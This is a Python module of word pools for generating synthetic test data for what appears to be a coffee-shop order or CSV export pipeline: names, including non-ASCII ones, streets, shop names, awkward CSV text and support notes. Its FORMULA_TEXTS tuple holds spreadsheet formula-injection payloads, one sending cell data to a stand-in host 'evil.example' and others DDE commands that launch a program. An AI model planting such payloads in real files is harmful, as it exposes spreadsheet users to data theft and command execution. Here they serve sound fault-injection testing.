"""Word pools for names and free text, including the awkward text that faults inject."""

from __future__ import annotations

FIRST_NAMES = (
    "Olivia", "Liam", "Emma", "Noah", "Ava", "Elijah", "Sophia", "James", "Isabella", "Lucas",
    "Mia", "Mason", "Amelia", "Ethan", "Harper", "Logan", "Evelyn", "Aiden", "Abigail", "Jacob",
    "Emily", "Michael", "Ella", "Daniel", "Grace", "Henry", "Chloe", "Jackson", "Nora", "Sebastian",
    "Lily", "Samuel", "Hannah", "David", "Zoe", "Joseph", "Leah", "Carter", "Aria", "Owen",
    "Priya", "Arjun", "Mei", "Wei", "Fatima", "Omar", "Yuki", "Kenji", "Amara", "Kofi",
)  # fmt: skip
LAST_NAMES = (
    "Smith", "Johnson", "Williams", "Brown", "Jones", "Garcia", "Miller", "Davis", "Rodriguez",
    "Martinez", "Hernandez", "Lopez", "Wilson", "Anderson", "Thomas", "Taylor", "Moore", "Jackson",
    "Martin", "Lee", "Thompson", "White", "Harris", "Clark", "Lewis", "Robinson", "Walker", "Young",
    "Allen", "King", "Wright", "Scott", "Green", "Baker", "Adams", "Nelson", "Hill", "Campbell",
    "Patel", "Singh", "Chen", "Wang", "Kim", "Nguyen", "Okafor", "Mensah", "Tanaka", "Sato",
)  # fmt: skip
# Real names that only survive a pipeline that handles UTF-8 end to end.
NON_ASCII_NAMES = (
    ("Zoë", "Brontë"), ("José", "Núñez"), ("Björk", "Guðmundsdóttir"), ("François", "Lefèvre"),
    ("Małgorzata", "Wiśniewska"), ("Søren", "Kierkegård"), ("Çağla", "Yılmaz"),  # noqa: RUF001 - a real Turkish name
    ("Dmitrïy", "Ivanov"), ("美咲", "田中"), ("Thảo", "Nguyễn"), ("Ümit", "Özdemir"),
)  # fmt: skip
STREETS = (
    "Main St", "Oak Ave", "Maple Dr", "Cedar Ln", "Elm St", "Park Rd", "Lake View", "Hill St",
    "River Rd", "Market St", "Church Ln", "Station Rd", "High St", "Mill Ln", "Harbour Way",
)  # fmt: skip
BUSINESS_WORDS = (
    "Roastery", "Café", "Coffee Bar", "Espresso House", "Bean Co", "Brew Lab", "Kitchen",
    "Deli", "Workspace", "Bakery",
)  # fmt: skip
SHOP_PREFIXES = (
    "Daily Grind", "Bean There", "Common Ground", "Brew & Co", "The Roasted Bean", "Perk Up",
    "Morning Ritual", "Steam Works", "Third Wave", "Crema", "Drip Society", "Kettle & Cup",
)  # fmt: skip
# Text that spreadsheets evaluate as formulas when a cell starts with = + - or @.
FORMULA_TEXTS = (
    '=HYPERLINK("http://evil.example/?q="&A1,"Click for refund")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
)
# Free text with the characters CSV writers must quote: commas, quotes and line breaks.
AWKWARD_TEXTS = (
    'Suite 4, Building "B"\nRing twice, then wait',
    "c/o Front desk, 2nd floor\r\nLeave with reception",
    'Said: "late again, please call"\nfollow up tomorrow',
)
SUPPORT_NOTES = {
    "late_delivery": "Customer asked where the parcel is",
    "damaged_item": "Item arrived damaged; replacement offered",
    "billing": "Question about a charge on the card statement",
    "product_question": "Asked about grind size and brew ratio",
    "return_request": "Requested a return label",
}
